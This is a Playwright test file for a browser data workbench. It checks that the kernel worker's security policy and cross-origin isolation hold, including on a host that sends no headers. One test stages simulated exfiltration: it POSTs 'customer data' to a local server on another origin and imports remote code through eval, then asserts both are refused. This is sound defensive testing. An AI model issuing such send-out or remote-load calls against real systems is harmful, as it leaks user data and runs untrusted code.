import { cp, mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Response, Worker } from 'playwright-core';
import { distDir } from './harness/paths';
import { serveStaticSite } from './harness/static-server';
import { expect, test, type PageProblems } from './harness/test';

const isKernelScript = (url: string) => /\/kernel\.worker-[\w-]+\.js$/.test(new URL(url).pathname);

/** The kernel worker, once the page has started it. */
async function kernelWorker(page: Page): Promise<Worker> {
  const running = page.workers().find((worker) => isKernelScript(worker.url()));
  return running ?? page.waitForEvent('worker', { predicate: (worker) => isKernelScript(worker.url()) });
}

/** The response that brings the kernel worker's script, as the page sees it: a header policy is the only one a worker gets. */
function kernelScriptResponse(page: Page): Promise<Response> {
  return page.waitForResponse((response) => isKernelScript(response.url()));
}

/** Directive → sources of a Content-Security-Policy header. */
function parsePolicy(header: string | undefined): Map<string, string[]> {
  const directives = (header ?? '').split(';').map((part) => part.trim().split(/\s+/)).filter((words) => words[0] !== '');
  return new Map(directives.map(([name, ...sources]) => [name, sources]));
}

/** What the worker's policy must hold: its own origin only, and nothing sent elsewhere. */
function expectSameOriginOnly(header: string | undefined): void {
  const policy = parsePolicy(header);
  expect(policy.get('default-src')).toEqual(["'self'"]);
  expect(policy.get('connect-src')).toEqual(["'self'", 'blob:', 'data:']);
  for (const [directive, sources] of policy) {
    for (const source of sources) expect(source, directive).toMatch(/^('[a-z-]+'|blob:|data:)$/);
  }
}

/** A server on another origin that counts what reaches it: what the worker tries to send away or load. */
async function listeningServer(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('export const leaked = true;');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  // localhost, not 127.0.0.1: the same machine, another origin than the site's.
  return { origin: `http://localhost:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** Drops what a test provoked on purpose from the problems the harness fails a test on. */
function forgive(problems: PageProblems, provoked: (text: string) => boolean): void {
  for (const list of [problems.consoleErrors, problems.offsiteRequests]) list.splice(0, list.length, ...list.filter((text) => !provoked(text)));
}

test('the kernel worker gets its policy from its script response, enforced inside it, and is cross-origin isolated with the page', async ({
  workbench,
  page,
  problems,
  onTestFinished,
}) => {
  const elsewhere = await listeningServer();
  onTestFinished(() => elsewhere.close());
  const scriptResponse = kernelScriptResponse(page);
  const pageResponse = page.waitForResponse((response) => response.request().resourceType() === 'document');
  await workbench.open();
  // The page's header policy is its meta policy, which hosts that send no headers still give it.
  const metaPolicy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect((await pageResponse).headers()['content-security-policy']).toBe(metaPolicy);
  const headers = await (await scriptResponse).allHeaders();
  expectSameOriginOnly(headers['content-security-policy']);
  expect(headers['cross-origin-embedder-policy']).toBe('require-corp');

  const worker = await kernelWorker(page);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  expect(await worker.evaluate(() => crossOriginIsolated)).toBe(true);

  const attempt = await worker.evaluate(async (origin) => {
    const violations: string[] = [];
    self.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
    const refused = (promise: Promise<unknown>) => promise.then(() => false, () => true);
    const fetchRefused = await refused(fetch(`${origin}/collect`, { method: 'POST', body: 'customer data' }));
    // Written as text so the test runner leaves the dynamic import alone.
    const importRefused = await refused((0, eval)(`import('${origin}/remote.js')`) as Promise<unknown>);
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { fetchRefused, importRefused, violations: violations.sort() };
  }, elsewhere.origin);
  expect(attempt).toEqual({ fetchRefused: true, importRefused: true, violations: ['connect-src', 'script-src-elem'] });
  expect(elsewhere.hits).toEqual([]);
  forgive(problems, (text) => text.includes('Content Security Policy') || text.startsWith(elsewhere.origin));
});

test('under the worker policy a row filter written as text still compiles, and WASM trains on its threaded build', async ({ workbench, page }) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(new URL(request.url()).pathname));
  await workbench.open();
  await workbench.trySample();
  await workbench.waitForCell('load', ['done']);

  const clean = workbench.cell('clean');
  await clean.getByTestId('operation-add').selectOption('filter-rows');
  await clean.locator('[data-testid=operation][data-op=filter-rows] [data-param=expression]').fill('d => d["totals.pageviews"] > 1');
  await clean.getByTestId('run-cell').click();
  expect(await workbench.waitForCell('clean', ['done', 'error'])).toBe('done');
  expect(await clean.locator('[data-testid=clean-step][data-op=filter-rows] [data-testid=clean-step-line]').innerText()).toMatch(/[\d,]+ rows?/);

  const choice = page.getByTestId('backend-choice');
  await expect.poll(() => choice.locator('option[value=wasm]').count(), { timeout: 60_000 }).toBe(1);
  await choice.selectOption('wasm');
  await expect.poll(() => page.getByTestId('backend').innerText()).toBe('ML: wasm');
  await workbench.setParam(workbench.cell('train-mlp'), 'epochs', '2');
  await workbench.runAll();
  await workbench.waitForAllDone();
  expect(await workbench.cell('train-mlp').getByTestId('train-backend').innerText()).toContain('wasm backend');
  expect(requests.some((path) => /tfjs-backend-wasm-threaded-simd-[\w-]+\.wasm$/.test(path))).toBe(true);
});

test('on a host that sends no headers, the service worker gives them from the second visit on', async ({ page, problems, onTestFinished }) => {
  const dir = await mkdtemp(join(tmpdir(), 'workbench-site-'));
  await cp(distDir, dir, { recursive: true });
  const site = await serveStaticSite(dir, { siteHeaders: false });
  onTestFinished(async () => (await site.close(), await rm(dir, { recursive: true, force: true })));

  const firstScript = kernelScriptResponse(page);
  await page.goto(site.url);
  expect((await firstScript).headers()['content-security-policy']).toBeUndefined();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
  await page.evaluate(async () => void (await navigator.serviceWorker.ready));

  const pageResponse = page.waitForResponse((response) => response.url() === site.url);
  const secondScript = kernelScriptResponse(page);
  await page.reload();
  for (const response of [await pageResponse, await secondScript]) {
    expect(response.fromServiceWorker()).toBe(true);
    expect(response.headers()['cross-origin-opener-policy']).toBe('same-origin');
    expect(response.headers()['cross-origin-embedder-policy']).toBe('require-corp');
  }
  expect(parsePolicy((await pageResponse).headers()['content-security-policy']).get('script-src')).toEqual(["'self'"]);
  expectSameOriginOnly((await secondScript).headers()['content-security-policy']);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  expect(await (await kernelWorker(page)).evaluate(() => crossOriginIsolated)).toBe(true);
  await page.getByTestId('try-sample').waitFor();
  // The copy is served from its own port, which the harness counts as another site.
  forgive(problems, (url) => url.startsWith(site.url));
});
